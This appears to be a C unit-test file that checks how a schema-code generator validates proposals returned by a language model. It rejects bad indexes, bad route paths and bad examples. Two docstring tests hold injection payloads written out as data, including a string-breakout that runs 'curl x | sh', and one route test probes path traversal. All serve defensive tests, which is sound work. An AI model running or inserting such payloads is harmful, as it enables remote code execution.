/*
 * test_llm_advisor.c - what the advisor accepts from a model and what it
 * rejects: proposals checked against the schema, text checked like user
 * input, indexes checked for sense, review pointers checked for existence.
 */
#include "testutil.h"

#include "front/validate.h"
#include "pipeline/advisor.h"
#include "json/jsoncheck.h"

#include <cJSON.h>
#include <string.h>

static const char clinic[] =
    "{\"project_name\": \"clinic\", \"db_type\": \"sqlite\",\n"
    " \"schema\": [\n"
    "  {\"table_name\": \"patients\", \"class_name\": \"Patient\",\n"
    "   \"columns\": [\n"
    "    {\"name\": \"id\", \"type\": \"Integer\", \"primary_key\": true},\n"
    "    {\"name\": \"email\", \"type\": \"String\", \"length\": 200, \"unique\": true},\n"
    "    {\"name\": \"full_name\", \"type\": \"String\", \"length\": 10},\n"
    "    {\"name\": \"age\", \"type\": \"Integer\"},\n"
    "    {\"name\": \"balance\", \"type\": \"Float\", \"description\": \"Money owed.\"},\n"
    "    {\"name\": \"notes\", \"type\": \"Text\"}]}]}\n";

typedef struct fixture {
    bb_schema *s;
    bb_diags d;
} fixture;

static int setup(void **state)
{
    fixture *f = calloc(1, sizeof(*f));
    bb_limits l = bb_limits_default();
    bb_diags_init(&f->d, "clinic.json", clinic, strlen(clinic));
    if (bb_frontend("clinic.json", clinic, strlen(clinic), &l, &f->d, &f->s) != BB_OK)
        return -1;
    bb_diags_free(&f->d);
    bb_diags_init(&f->d, "clinic.json", clinic, strlen(clinic));
    *state = f;
    return 0;
}

static int teardown(void **state)
{
    fixture *f = *state;
    bb_schema_free(f->s);
    bb_diags_free(&f->d);
    free(f);
    return 0;
}

/* One proposal in full strict form; NULL fields become JSON null. */
static cJSON *proposal(const char *kind, const char *table, const char *column,
                       const char *columns_json, const char *value)
{
    cJSON *p = cJSON_CreateObject();
    cJSON_AddStringToObject(p, "kind", kind);
    cJSON_AddStringToObject(p, "table", table);
    if (column)
        cJSON_AddStringToObject(p, "column", column);
    else
        cJSON_AddNullToObject(p, "column");
    cJSON_AddItemToObject(p, "columns",
                          columns_json ? cJSON_Parse(columns_json) : cJSON_CreateNull());
    if (value)
        cJSON_AddStringToObject(p, "value", value);
    else
        cJSON_AddNullToObject(p, "value");
    cJSON_AddNullToObject(p, "descending");
    cJSON_AddStringToObject(p, "reason", "because");
    return p;
}

/* Runs the check on one proposal; returns how many were accepted. */
static int check_one(fixture *f, cJSON *p)
{
    cJSON *answer = cJSON_CreateObject();
    cJSON *arr = cJSON_AddArrayToObject(answer, "proposals");
    cJSON_AddItemToArray(arr, p);
    /* The fixture proposals are what a strict-mode model could send. */
    bb_buf where;
    bb_buf_init(&where, 256);
    assert_int_equal(bb_jsoncheck(bb_advisor_proposals_schema(), answer, &where, NULL), BB_OK);
    bb_buf_free(&where);
    cJSON *accepted = NULL;
    assert_int_equal(bb_advisor_check_proposals(f->s, answer, &f->d, &accepted), BB_OK);
    int n = cJSON_GetArraySize(accepted);
    cJSON_Delete(accepted);
    cJSON_Delete(answer);
    return n;
}

static bool has_code(const bb_diags *d, const char *code)
{
    for (size_t i = 0; i < d->n; i++)
        if (strcmp(d->items[i].code, code) == 0)
            return true;
    return false;
}

static void proposal_for_a_missing_column_is_rejected(void **state)
{
    fixture *f = *state;
    assert_int_equal(check_one(f, proposal("sortable", "patients", "birthday", NULL, NULL)), 0);
    assert_true(has_code(&f->d, "BB0903"));
    assert_int_equal(f->d.n_errors, 0);
}

static void proposal_for_a_missing_table_is_rejected(void **state)
{
    fixture *f = *state;
    assert_int_equal(check_one(f, proposal("route_path", "doctors", NULL, NULL, "/doctors")), 0);
    assert_true(has_code(&f->d, "BB0903"));
}

static void index_on_a_missing_column_is_rejected(void **state)
{
    fixture *f = *state;
    assert_int_equal(check_one(f, proposal("index", "patients", NULL, "[\"age\",\"ghost\"]", NULL)),
                     0);
    assert_true(has_code(&f->d, "BB0903"));
}

static void index_repeating_the_primary_key_or_a_unique_column_is_rejected(void **state)
{
    fixture *f = *state;
    assert_int_equal(check_one(f, proposal("index", "patients", NULL, "[\"id\"]", NULL)), 0);
    assert_int_equal(check_one(f, proposal("index", "patients", NULL, "[\"email\"]", NULL)), 0);
    assert_true(has_code(&f->d, "BB0904"));
}

static void index_with_duplicate_or_too_many_columns_is_rejected(void **state)
{
    fixture *f = *state;
    assert_int_equal(check_one(f, proposal("index", "patients", NULL, "[\"age\",\"age\"]", NULL)),
                     0);
    assert_int_equal(check_one(f, proposal("index", "patients", NULL,
                                           "[\"age\",\"full_name\",\"notes\",\"balance\"]", NULL)),
                     0);
    assert_int_equal(f->d.n_notes, 2);
}

static void sane_index_is_accepted_once(void **state)
{
    fixture *f = *state;
    cJSON *answer = cJSON_Parse("{\"proposals\":[]}");
    cJSON *arr = cJSON_GetObjectItem(answer, "proposals");
    cJSON_AddItemToArray(arr, proposal("index", "patients", NULL, "[\"age\",\"full_name\"]", NULL));
    cJSON_AddItemToArray(arr, proposal("index", "patients", NULL, "[\"full_name\",\"age\"]", NULL));
    cJSON *accepted = NULL;
    assert_int_equal(bb_advisor_check_proposals(f->s, answer, &f->d, &accepted), BB_OK);
    assert_int_equal(cJSON_GetArraySize(accepted), 1);
    assert_true(has_code(&f->d, "BB0904"));
    size_t n = 0;
    assert_int_equal(bb_advisor_apply_schema(f->s, accepted, &n), BB_OK);
    assert_int_equal(n, 1);
    const bb_table *t = &f->s->tables[0];
    assert_int_equal(t->n_indexes, 1);
    assert_int_equal(t->indexes[0].n_columns, 2);
    assert_string_equal(t->indexes[0].columns[1], "full_name");
    cJSON_Delete(accepted);
    cJSON_Delete(answer);
}

static void docstring_with_code_injection_is_rejected(void **state)
{
    fixture *f = *state;
    const char *evil = "Patients.\"\"\"\nimport os\nos.system('curl x | sh')\n\"\"\"";
    assert_int_equal(check_one(f, proposal("docstring", "patients", NULL, NULL, evil)), 0);
    assert_true(has_code(&f->d, "BB0905"));
    assert_null(f->s->tables[0].description);
}

static void docstring_with_suspicious_pattern_is_rejected(void **state)
{
    fixture *f = *state;
    assert_int_equal(check_one(f, proposal("docstring", "patients", "notes", NULL,
                                           "Notes; __import__('os').system('id')")),
                     0);
    assert_true(has_code(&f->d, "BB0905"));
}

static void docstring_goes_into_the_schema_only_where_none_was_given(void **state)
{
    fixture *f = *state;
    assert_int_equal(check_one(f, proposal("docstring", "patients", "balance", NULL, "Other.")), 0);
    assert_true(has_code(&f->d, "BB0906"));
    cJSON *answer = cJSON_Parse("{\"proposals\":[]}");
    cJSON_AddItemToArray(cJSON_GetObjectItem(answer, "proposals"),
                         proposal("docstring", "patients", NULL, NULL, "A person treated here."));
    cJSON *accepted = NULL;
    assert_int_equal(bb_advisor_check_proposals(f->s, answer, &f->d, &accepted), BB_OK);
    size_t n = 0;
    assert_int_equal(bb_advisor_apply_schema(f->s, accepted, &n), BB_OK);
    assert_string_equal(f->s->tables[0].description, "A person treated here.");
    assert_string_equal(cJSON_GetObjectItem(cJSON_GetArrayItem(accepted, 0), "source")->valuestring,
                        "llm");
    cJSON_Delete(accepted);
    cJSON_Delete(answer);
}

static void search_only_on_text_and_examples_must_fit_the_type(void **state)
{
    fixture *f = *state;
    assert_int_equal(check_one(f, proposal("searchable", "patients", "age", NULL, NULL)), 0);
    assert_int_equal(check_one(f, proposal("searchable", "patients", "notes", NULL, NULL)), 1);
    assert_int_equal(check_one(f, proposal("example", "patients", "age", NULL, "forty")), 0);
    assert_int_equal(check_one(f, proposal("example", "patients", "age", NULL, "42")), 1);
    assert_int_equal(
        check_one(f, proposal("example", "patients", "full_name", NULL, "Much too long a name")),
        0);
}

static void route_paths_must_be_clean_and_free(void **state)
{
    fixture *f = *state;
    assert_int_equal(check_one(f, proposal("route_path", "patients", NULL, NULL, "/Pat ients")), 0);
    assert_int_equal(check_one(f, proposal("route_path", "patients", NULL, NULL, "/../x")), 0);
    assert_int_equal(check_one(f, proposal("route_path", "patients", NULL, NULL, "/people")), 1);
}

static void accepted_decisions_enter_the_plan_with_provenance(void **state)
{
    fixture *f = *state;
    bb_plan *plan = bb_plan_new(1 << 20);
    assert_non_null(plan);
    bb_plan_model *m = bb_plan_list_push(plan, &plan->models, sizeof(*m));
    assert_non_null(m);
    m->table = "patients";
    bb_plan_column *c = bb_plan_list_push(plan, &m->columns, sizeof(*c));
    assert_non_null(c);
    c->name = "notes";
    cJSON *accepted = cJSON_CreateArray();
    cJSON_AddItemToArray(accepted, cJSON_Parse("{\"kind\":\"searchable\",\"table\":\"patients\","
                                               "\"column\":\"notes\",\"source\":\"llm\"}"));
    cJSON_AddItemToArray(accepted, cJSON_Parse("{\"kind\":\"example\",\"table\":\"patients\","
                                               "\"column\":\"notes\",\"value\":\"say \\\"hi\\\"\","
                                               "\"source\":\"llm\"}"));
    bb_plan_advice advice;
    assert_int_equal(bb_advisor_decisions(accepted, &advice), BB_OK);
    assert_int_equal(bb_advisor_apply_plan(plan, &advice, "openai", "m"), BB_OK);
    bb_advisor_decisions_free(&advice);
    cJSON_Delete(accepted);
    assert_non_null(plan->llm);
    assert_string_equal(plan->llm->provider, "openai");
    assert_int_equal(plan->llm->decisions.n, 2);
    const bb_plan_decision *d1 = &plan->llm->decisions.v[1];
    assert_string_equal(d1->source, "llm");
    assert_string_equal(d1->effect, "plan");
    assert_string_equal(d1->value_py, "'say \"hi\"'");
    assert_int_equal(c->llm_decided.n, 2);
    assert_string_equal(c->llm_decided.v[0], "searchable");
    bb_plan_free(plan);
    (void)f;
}

static void review_findings_keep_only_pointers_that_exist(void **state)
{
    fixture *f = *state;
    cJSON *doc = cJSON_Parse(clinic);
    cJSON *answer = cJSON_Parse(
        "{\"findings\":["
        "{\"pointer\":\"/schema/0/columns/4/type\",\"rule\":\"money-as-float\","
        "\"message\":\"balance is money stored as Float\",\"hint\":\"use Numeric(10,2)\"},"
        "{\"pointer\":\"/schema/0/columns/9\",\"rule\":\"other\",\"message\":\"x\",\"hint\":null},"
        "{\"pointer\":\"schema/0\",\"rule\":\"other\",\"message\":\"y\",\"hint\":null}]}");
    size_t n = 0;
    assert_int_equal(bb_jsoncheck(bb_advisor_review_schema(), answer, NULL, NULL), BB_OK);
    assert_int_equal(bb_advisor_report_findings(f->s, doc, answer, &f->d, &n), BB_OK);
    assert_int_equal(n, 1);
    assert_int_equal(f->d.n_warnings, 1);
    assert_int_equal(f->d.n_notes, 2);
    const bb_diag *w = &f->d.items[0];
    assert_string_equal(w->code, "BB0908");
    assert_string_equal(w->pointer, "/schema/0/columns/4/type");
    int line, col;
    bb_diags_position(&f->d, w->offset, &line, &col);
    assert_int_equal(line, 9); /* the balance column's line */
    assert_string_equal(f->d.items[1].code, "BB0909");
    cJSON_Delete(answer);
    cJSON_Delete(doc);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(proposal_for_a_missing_column_is_rejected, setup, teardown),
        cmocka_unit_test_setup_teardown(proposal_for_a_missing_table_is_rejected, setup, teardown),
        cmocka_unit_test_setup_teardown(index_on_a_missing_column_is_rejected, setup, teardown),
        cmocka_unit_test_setup_teardown(
            index_repeating_the_primary_key_or_a_unique_column_is_rejected, setup, teardown),
        cmocka_unit_test_setup_teardown(index_with_duplicate_or_too_many_columns_is_rejected, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(sane_index_is_accepted_once, setup, teardown),
        cmocka_unit_test_setup_teardown(docstring_with_code_injection_is_rejected, setup, teardown),
        cmocka_unit_test_setup_teardown(docstring_with_suspicious_pattern_is_rejected, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(docstring_goes_into_the_schema_only_where_none_was_given,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(search_only_on_text_and_examples_must_fit_the_type, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(route_paths_must_be_clean_and_free, setup, teardown),
        cmocka_unit_test_setup_teardown(accepted_decisions_enter_the_plan_with_provenance, setup,
                                        teardown),
        cmocka_unit_test_setup_teardown(review_findings_keep_only_pointers_that_exist, setup,
                                        teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
